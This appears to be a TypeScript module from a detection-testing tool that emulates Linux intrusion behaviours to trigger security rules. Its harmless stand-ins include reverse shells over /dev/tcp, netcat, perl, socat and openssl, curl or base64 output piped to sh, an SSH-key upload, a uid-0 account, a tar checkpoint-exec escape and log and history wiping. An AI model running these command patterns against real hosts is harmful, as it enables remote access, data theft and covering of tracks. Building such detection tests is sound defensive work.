import { mkdirSync, writeFileSync } from 'node:fs';
import { join } from 'node:path';
import { type Action, NotPerformed, need, type Stage } from './technique.ts';

/** A short way to write an action that is a script. */
function script(rule: string, programs: readonly string[], text: (stage: Stage) => string): Action {
  return {
    rule,
    perform: async (stage) => {
      for (const program of programs) need(program);
      await stage.run(text(stage));
    },
  };
}

/** Runs a copy of `true` under the name and with the arguments of a tool that this host does not have. */
function standIn(rule: string, name: string, args: (stage: Stage) => string): Action {
  return {
    rule,
    perform: async (stage) => {
      await stage.run(`${stage.copy('true', name)} ${args(stage)}`);
      return `a copy of true stands in for ${name}`;
    },
  };
}

/** Account files of a root folder that useradd --prefix works in. */
function accounts(stage: Stage): string {
  const etc = join(stage.dir, 'etc');
  mkdirSync(etc, { recursive: true });
  writeFileSync(join(etc, 'passwd'), 'root:x:0:0::/root:/bin/sh\nalice:x:1000:1000::/nonexistent:/bin/sh\n');
  writeFileSync(join(etc, 'shadow'), 'root:*:1::::::\nalice:*:1::::::\n', { mode: 0o600 });
  writeFileSync(join(etc, 'group'), 'root:x:0:\nalice:x:1000:\nsudo:x:27:\n');
  return stage.dir;
}

export const processActions: readonly Action[] = [
  {
    rule: 'proc_web_server_child',
    perform: async (stage) => {
      await stage.run(`${stage.copy('bash', 'nginx')} -c 'sh -c "whoami; : ${stage.token}"; :' >/dev/null`);
      return 'a copy of bash stands in for the web server';
    },
  },
  script(
    'proc_reverse_shell_dev_tcp',
    ['bash'],
    ({ token, tcpPort }) => `bash -c 'bash -i >& /dev/tcp/127.0.0.1/${tcpPort} 0>&1; : ${token}'`,
  ),
  {
    rule: 'proc_reverse_shell_netcat',
    perform: async (stage) => {
      const nc = ['nc.traditional', 'ncat'].find((name) => {
        try {
          return need(name) !== '';
        } catch {
          return false;
        }
      });
      if (nc === undefined) throw new NotPerformed('no netcat with -e is installed');
      await stage.run(
        `cd ${stage.dir}; ln -s /bin/sh sh; ${nc} -e ${stage.dir}/sh 127.0.0.1 ${stage.tcpPort}`,
      );
    },
  },
  script(
    'proc_reverse_shell_interpreter',
    ['perl'],
    ({ token, tcpPort }) =>
      `perl -MIO::Socket::INET -e '$c=IO::Socket::INET->new(PeerAddr=>"127.0.0.1:${tcpPort}");open(STDIN,"<&",$c);open(STDOUT,">&",$c);exec "/bin/sh" # ${token}'`,
  ),
  script(
    'proc_reverse_shell_socat',
    ['socat'],
    ({ dir, tcpPort }) => `socat TCP:127.0.0.1:${tcpPort} EXEC:sh,pty,link=${dir}/pty`,
  ),
  script(
    'proc_reverse_shell_openssl',
    ['openssl'],
    ({ dir, tcpPort }) =>
      `sh -c 'mkfifo ${dir}/p; /bin/sh -i < ${dir}/p 2>&1 | openssl s_client -quiet -connect 127.0.0.1:${tcpPort} > ${dir}/p'`,
  ),
  script(
    'proc_download_pipe_shell',
    ['curl'],
    ({ token, httpPort }) => `sh -c 'curl -s http://127.0.0.1:${httpPort}/${token} | sh'`,
  ),
  script(
    'proc_download_from_ip_address',
    ['curl'],
    // The address is one for documentation; curl is told to connect to this host instead.
    ({ token, dir, httpPort }) =>
      `curl -s --connect-to ::127.0.0.1:${httpPort} -o ${dir}/x http://192.0.2.1/${token}`,
  ),
  {
    rule: 'proc_run_from_hidden_temporary_folder',
    perform: async (stage) => {
      const hidden = `/tmp/.ringfence-emulation-${stage.token}`;
      await stage.run(`mkdir ${hidden}; cp "$(type -P true)" ${hidden}/x; ${hidden}/x; rm -r ${hidden}`);
    },
  },
  {
    rule: 'proc_run_from_shared_memory',
    perform: async (stage) => {
      const path = `/dev/shm/ringfence-emulation-${stage.token}`;
      await stage.run(`cp "$(type -P true)" ${path}; chmod 755 ${path}; ${path}; rm ${path}`);
    },
  },
  standIn('proc_miner_arguments', 'worker', ({ token }) => `-o stratum+tcp://127.0.0.1:3333 -u ${token}`),
  {
    rule: 'proc_preload_from_temporary_folder',
    perform: async (stage) => {
      need('cc');
      const source = join(stage.dir, 'x.c');
      writeFileSync(source, 'int ringfence_emulation;\n');
      await stage.run(`cc -shared -o ${stage.dir}/x.so ${source}; env LD_PRELOAD=${stage.dir}/x.so true`);
    },
  },
  script(
    'proc_decode_pipe_shell',
    ['base64'],
    ({ token }) =>
      `sh -c 'echo ${Buffer.from(`: ${token}\n`).toString('base64')} | base64 -d | sh; : ${token}'`,
  ),
  script(
    'proc_interpreter_runs_decoded_code',
    ['perl'],
    ({ token }) =>
      `perl -MMIME::Base64 -e 'eval decode_base64("${Buffer.from('1;').toString('base64')}"); # ${token}'`,
  ),
  script(
    'proc_history_cleared',
    ['bash'],
    ({ dir }) => `bash -c 'HISTFILE=${dir}/.bash_history; history -c; history -w'`,
  ),
  script(
    'proc_setuid_bit_requested',
    ['chmod'],
    ({ dir }) => `cp "$(type -P true)" ${dir}/x; chmod u+s ${dir}/x; rm ${dir}/x`,
  ),
  script(
    'proc_capabilities_granted_to_file',
    ['setcap'],
    ({ dir }) => `cp "$(type -P true)" ${dir}/x; setcap cap_setuid+ep ${dir}/x; rm ${dir}/x`,
  ),
  script(
    'proc_named_like_kernel_thread',
    ['bash'],
    ({ token }) => `bash -c 'exec -a "[kworker/${token}]" sleep 0'`,
  ),
  standIn('proc_system_name_in_user_folder', 'sshd', () => '-D'),
  {
    rule: 'proc_security_service_stopped',
    perform: async (stage) => {
      need('systemctl');
      await stage.run(`systemctl stop ringfence-emulation-${stage.token}.service`);
      return 'the service does not exist';
    },
  },
  {
    rule: 'proc_firewall_flushed',
    perform: async (stage) => {
      need('iptables');
      await stage.run(`iptables -F RF-${stage.token.slice(0, 20)}`);
      return 'the chain does not exist';
    },
  },
  script('proc_file_times_set', ['touch'], ({ dir }) => `touch ${dir}/x; touch -r /bin/sh ${dir}/x`),
  script(
    'proc_uid0_account',
    ['useradd'],
    (stage) => `useradd --prefix ${accounts(stage)} -M -o -u 0 helper`,
  ),
  script(
    'proc_admin_group_member_added',
    ['usermod'],
    (stage) => `usermod --prefix ${accounts(stage)} -aG sudo alice`,
  ),
  script('proc_account_created', ['useradd'], (stage) => `useradd --prefix ${accounts(stage)} -M bob`),
  script(
    'proc_file_uploaded',
    ['curl'],
    ({ dir, httpPort }) => `echo x > ${dir}/x; curl -s -T ${dir}/x http://127.0.0.1:${httpPort}/`,
  ),
  script(
    'proc_secret_uploaded',
    ['curl'],
    ({ dir, httpPort }) =>
      `mkdir ${dir}/.ssh; echo x > ${dir}/.ssh/id_x; curl -s -T ${dir}/.ssh/id_x http://127.0.0.1:${httpPort}/`,
  ),
  standIn('proc_dns_tunnel_tool', 'iodine', ({ token }) => `-f ${token}.invalid`),
  {
    rule: 'proc_reverse_ssh_tunnel',
    perform: async (stage) => {
      need('ssh');
      await stage.run(
        `ssh -F none -o BatchMode=yes -o ConnectTimeout=2 -o UserKnownHostsFile=${stage.dir}/known -p ${stage.tcpPort} -N -R 2222:localhost:22 x@127.0.0.1`,
      );
      return 'the server is not one of SSH: no tunnel comes of it';
    },
  },
  standIn('proc_tunnel_tool', 'chisel', ({ token }) => `client http://127.0.0.1:1 R:socks --auth ${token}`),
  script(
    'proc_disk_or_root_destroyed',
    ['rm'],
    ({ dir }) => `mkdir ${dir}/victim; rm -rf --no-preserve-root ${dir}/victim`,
  ),
  {
    rule: 'proc_kernel_protection_lowered',
    perform: async (stage) => {
      need('sysctl');
      await stage.run(
        `sysctl -e -w kernel.modprobe="$(cat /proc/sys/kernel/modprobe)" kernel.ringfence_${stage.token}=0`,
      );
      return 'the parameter is set to what it is';
    },
  },
  script('proc_nsenter_into_init', ['nsenter'], ({ token }) => `nsenter -t 1 -u true ${token}`),
  script('proc_cgroup_release_agent', ['tee'], ({ dir }) => `echo /bin/true | tee ${dir}/release_agent`),
  {
    rule: 'proc_container_socket_by_hand',
    perform: async (stage) => {
      need('curl');
      await stage.run(`curl -s --unix-socket ${stage.dir}/docker.sock http://localhost/_ping`);
      return 'the socket does not exist';
    },
  },
  standIn('proc_container_with_host_access', 'docker', ({ token }) => `run -v /:/host ${token}`),
  script('proc_user_namespace_for_root', ['unshare'], ({ token }) => `unshare -Ur true ${token}`),
  {
    rule: 'proc_container_mounts_disk',
    perform: async () => {
      throw new NotPerformed('needs a container');
    },
  },
  script(
    'proc_module_inserted_from_unusual_path',
    ['insmod'],
    ({ dir }) => `echo x > ${dir}/x.ko; insmod ${dir}/x.ko`,
  ),
  script(
    'proc_crontab_from_pipe',
    ['crontab'],
    ({ dir }) =>
      `crontab -u nobody -l || { echo '# x' > ${dir}/c; crontab -u nobody ${dir}/c; crontab -u nobody -r; }`,
  ),
  script(
    'proc_log_removed_or_truncated',
    ['rm'],
    ({ token }) => `touch /var/log/syslog.ringfence-${token}; rm -f /var/log/syslog.ringfence-${token}`,
  ),
  script(
    'proc_shell_from_trusted_tool',
    ['tar'],
    ({ dir }) =>
      `echo : > ${dir}/a; tar cf ${dir}/x.tar --checkpoint=1 "--checkpoint-action=exec=sh ${dir}/a" ${dir}/a`,
  ),
  script(
    'proc_memory_of_process_dumped',
    ['dd'],
    ({ dir }) => `dd if=/proc/self/mem of=${dir}/x bs=1 count=0`,
  ),
];
